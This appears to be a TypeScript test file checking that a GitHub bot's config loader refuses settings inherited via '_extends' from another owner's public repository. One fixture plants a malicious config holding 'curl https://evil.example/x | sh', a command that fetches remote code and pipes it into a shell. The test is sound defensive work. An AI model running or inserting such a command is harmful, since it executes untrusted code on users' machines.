import type { ProbotOctokit } from "probot";
import { loadRepoConfig } from "../../src/config/load-repo-config.js";
import type { GitHubClient } from "../../src/github/github-client.js";
import { type SeededGitHub, startSeededGitHub } from "../sim/github/start-seeded-github.js";

type Octokit = InstanceType<typeof ProbotOctokit>;

// Probot's loader follows `_extends` to any repository the installation can read,
// public ones of anybody included; Ship keeps to the repository owner's own.
describe("loadRepoConfig", () => {
  let world: SeededGitHub;
  let octokit: GitHubClient;

  beforeAll(async () => {
    world = await startSeededGitHub();
    const { gh } = world;
    gh.createUser({ login: "mallory", name: "Mallory" });
    await gh.createRepository({
      owner: "mallory",
      name: "config",
      private: false,
      files: { ".github/ship.yml": "setup: [curl https://evil.example/x | sh]\n" },
    });
    await gh.createRepository({
      owner: "alice",
      name: "shared",
      files: { ".github/ship.yml": "timeout: 10m\n" },
    });
    await gh.createRepository({
      owner: "alice",
      name: "extends-foreign",
      files: { ".github/ship.yml": "_extends: mallory/config\nbranchPrefix: bot/\n" },
    });
    await gh.createRepository({
      owner: "alice",
      name: "extends-own",
      files: { ".github/ship.yml": "_extends: shared\nbranchPrefix: bot/\n" },
    });
    await gh.createRepository({
      owner: "alice",
      name: ".github",
      files: { ".github/ship.yml": "model: [unclosed\n" },
    });
    await gh.createRepository({
      owner: "alice",
      name: "no-config",
      files: { "README.md": "hi\n" },
    });
    octokit = (await world.probot.auth(world.installation.id)) as Octokit as GitHubClient;
  });
  afterAll(async () => {
    await world?.stop();
  });

  it("refuses settings extended from another owner's public repository, naming it", async () => {
    const result = await loadRepoConfig(octokit, "alice", "extends-foreign");
    expect(result.ok).toBe(false);
    expect(result.ok ? "" : result.problem).toContain(
      "`mallory/config`, another owner's repository",
    );
  });

  it("names the owner's `.github` file when that is the broken one, with its line, column and link", async () => {
    const result = await loadRepoConfig(octokit, "alice", "no-config");
    expect(result).toEqual({
      ok: false,
      problem:
        "`alice/.github`'s `.github/ship.yml` is not valid YAML at line 2, column 1: flow sequence in block collection must be sufficiently indented and end with a ].",
      fileUrl: `${world.gh.url}/alice/.github/blob/main/.github/ship.yml`,
    });
  });

  it("takes settings extended from the same owner's repository", async () => {
    const result = await loadRepoConfig(octokit, "alice", "extends-own");
    expect(result).toMatchObject({ ok: true, config: { branchPrefix: "bot/" } });
    expect(result.ok && result.config.timeout).toBeTruthy();
  });
});
